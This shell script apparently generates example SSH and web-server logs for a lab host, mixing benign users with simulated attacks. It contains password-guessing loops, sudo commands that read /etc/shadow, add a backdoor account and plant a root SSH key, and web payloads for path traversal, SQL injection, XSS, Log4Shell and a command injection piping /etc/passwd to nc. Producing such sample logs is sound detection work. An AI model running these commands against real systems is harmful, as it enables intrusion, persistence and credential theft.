#!/bin/sh
# The story that the example logs tell.  Each act runs for some minutes; they overlap.
#
#   benign    dave works from 192.0.2.10 with a key and sudo; carol mistypes once; the
#             backup (192.0.2.6) pulls, the monitoring (192.0.2.5) probes, the site's own
#             scanner (192.0.2.7) scans the web server; visitors of 198.18.3.0/24 read
#   takeover  203.0.113.66 guesses until deploy's password is found, reads the password
#             hashes, makes an account and plants a key
#   guessing  203.0.113.140 tries a few names and gives up
#   web       203.0.113.77 scans and probes the web server; nothing works
set -u
host=198.51.100.22
web=http://www.example.org
firefox='Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'
chrome='Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36'

# connect FROM USER [ssh arguments]
connect() {
	from=$1 user=$2
	shift 2
	timeout 60 ssh -F /dev/null -q -b "$from" -o StrictHostKeyChecking=no \
		-o UserKnownHostsFile=/dev/null -o ConnectTimeout=10 "$user@$host" "$@"
}

# guess FROM USER PASSWORD [command]
guess() {
	from=$1 user=$2 password=$3
	shift 3
	timeout 60 sshpass -p "$password" ssh -F /dev/null -q -b "$from" \
		-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
		-o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 "$user@$host" "$@" \
		</dev/null >/dev/null 2>&1
}

# as_root FROM USER PASSWORD COMMAND: log on, and sudo with the same password on a terminal.
as_root() {
	{ sleep 1; echo "$3"; sleep 1; } | timeout 60 sshpass -p "$3" ssh -F /dev/null -q -b "$1" \
		-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
		-o PubkeyAuthentication=no -tt "$2@$host" "sudo -S $4" >/dev/null 2>&1
}

# get FROM AGENT PATH [curl arguments]
get() {
	from=$1 agent=$2 path=$3
	shift 3
	curl -s -o /dev/null -m 10 --interface "$from" --resolve "www.example.org:80:$host" \
		--path-as-is -A "$agent" "$@" "$web$path"
}

visitors() {
	for round in 1 2 3 4 5 6 7 8; do
		get 198.18.3.4 "$firefox" /
		get 198.18.3.4 "$firefox" /style.css -e "$web/"
		get 198.18.3.4 "$firefox" /img/logo.png -e "$web/"
		sleep 3
		get 198.18.3.17 "$chrome" /docs/
		get 198.18.3.17 "$chrome" /docs/install.html -e "$web/docs/"
		get 198.18.3.58 "$firefox" "/search?q=install+guide&page=$round"
		sleep 5
		get 198.18.3.121 "$chrome" /about.html
		get 198.18.3.121 "$chrome" /contact.html -e "$web/about.html"
		get 198.18.3.200 'Mozilla/5.0 (compatible; ExampleBot/2.1; +http://bot.example.net/)' /robots.txt
		get 198.18.3.200 'Mozilla/5.0 (compatible; ExampleBot/2.1; +http://bot.example.net/)' /docs/faq.html
		sleep 7
		get 198.18.3.90 "$firefox" / && get 198.18.3.90 "$firefox" /favicon.ico -e "$web/"
		get 198.18.3.90 "$firefox" "/search?q=O%27Reilly+union+catalogue"
		get 198.18.3.90 "$firefox" /login -d 'user=erin&password=x' -e "$web/"
		sleep 9
	done
}

housekeeping() {
	for round in 1 2 3 4 5 6 7; do
		get 192.0.2.5 'check_http/v2.3.3 (monitoring-plugins 2.3.3)' /healthz
		curl -s -m 1 --interface 192.0.2.5 "telnet://$host:22" </dev/null >/dev/null
		sleep 15
		connect 192.0.2.6 backup-pull -i /story/backup-pull 'tar cf - .' >/dev/null
		sleep 10
	done
}

people() {
	sleep 5
	connect 192.0.2.10 dave -i /story/dave uptime >/dev/null
	guess 192.0.2.34 carol correct-horse-77
	sleep 6
	guess 192.0.2.34 carol correct-horse-7 'ls; sleep 20'
	as_root 192.0.2.10 dave battery-staple-9 'tail -n 3 /var/log/error.log'
	sleep 40
	as_root 192.0.2.10 dave battery-staple-9 'nginx -t -c /story/nginx.conf'
	sleep 60
	guess 192.0.2.34 carol correct-horse-7 'cat notes.txt; sleep 5'
	connect 192.0.2.10 dave -i /story/dave df >/dev/null
}

takeover() {
	sleep 20
	for name in admin oracle test postgres ubuntu git jenkins ftpuser; do
		guess 203.0.113.66 "$name" "$name"
	done
	for password in root toor 123456 password admin1234 qwerty letmein P@ssw0rd; do
		guess 203.0.113.66 root "$password"
	done
	for password in deploy 123456 password deploy1 deploy12 changeme qwerty \
		deploy2026 welcome1 letmein Deploy! deploydeploy; do
		guess 203.0.113.66 deploy "$password"
	done
	guess 203.0.113.66 deploy deploy123 'id; uname -a; sleep 8'
	sleep 10
	as_root 203.0.113.66 deploy deploy123 'cat /etc/shadow'
	sleep 5
	as_root 203.0.113.66 deploy deploy123 'useradd -m -s /bin/bash -G sudo sysupd'
	as_root 203.0.113.66 deploy deploy123 "sh -c 'echo sysupd:xK4-lantern | chpasswd'"
	sleep 6
	as_root 203.0.113.66 deploy deploy123 \
		"sh -c 'mkdir -p /root/.ssh; echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHexample upd >>/root/.ssh/authorized_keys'"
	sleep 20
	guess 203.0.113.66 sysupd xK4-lantern 'w; sleep 6'
	as_root 203.0.113.66 sysupd xK4-lantern 'ss -tlnp'
}

guessing() {
	sleep 70
	for name in root root admin pi support root user www; do
		guess 203.0.113.140 "$name" "${name}1"
		sleep 2
	done
}

# probe FROM: what scanners ask for, with their names in the user agent.
probe() {
	for path in / /admin/ /phpmyadmin/ /wp-login.php /xmlrpc.php /.env /.git/config /.git/HEAD \
		/backup.zip /config.php.bak /server-status /cgi-bin/test.cgi /manager/html \
		/solr/admin/cores /actuator/health /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php; do
		get "$1" "$2" "$path"
		sleep 0.5
	done
}

web() {
	sleep 45
	probe 203.0.113.77 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)'
	nikto='Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:map_codes)'
	for n in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do
		get 203.0.113.77 "$nikto" "/old-$n/"
		sleep 0.3
	done
	sleep 5
	curl='curl/7.88.1'
	get 203.0.113.77 "$curl" /../../../../etc/passwd
	get 203.0.113.77 "$curl" /docs/..%2f..%2f..%2f..%2fetc/passwd
	get 203.0.113.77 "$curl" /docs/%2e%2e/%2e%2e/%2e%2e/etc/shadow
	get 203.0.113.77 "$curl" '/download?file=../../../../etc/passwd'
	get 203.0.113.77 "$curl" '/download?file=....//....//etc/passwd%00.png'
	get 203.0.113.77 "$curl" '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh' -d 'id'
	sleep 4
	sqlmap='sqlmap/1.7.2#stable (https://sqlmap.org)'
	get 203.0.113.77 "$sqlmap" "/search?q=1%27%20OR%20%271%27%3D%271"
	get 203.0.113.77 "$sqlmap" '/search?q=1%20UNION%20ALL%20SELECT%20NULL%2CNULL%2Cuser%28%29--%20-'
	get 203.0.113.77 "$sqlmap" '/search?q=1%20AND%20SLEEP%285%29'
	get 203.0.113.77 "$sqlmap" "/search?q=1%27%3B%20DROP%20TABLE%20users--"
	get 203.0.113.77 "$chrome" '/search?q=%3Cscript%3Ealert(1)%3C/script%3E'
	get 203.0.113.77 "$chrome" '/search?q=%3Bcat%20/etc/passwd%7Cnc%20203.0.113.77%204444'
	# shellcheck disable=SC2016
	get 203.0.113.77 '${jndi:ldap://203.0.113.77:1389/a}' /
	get 203.0.113.77 "$chrome" /account -X DELETE
	sleep 40
	probe 192.0.2.7 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:weekly)'
}

visitors &
housekeeping &
people &
takeover &
guessing &
web &
wait
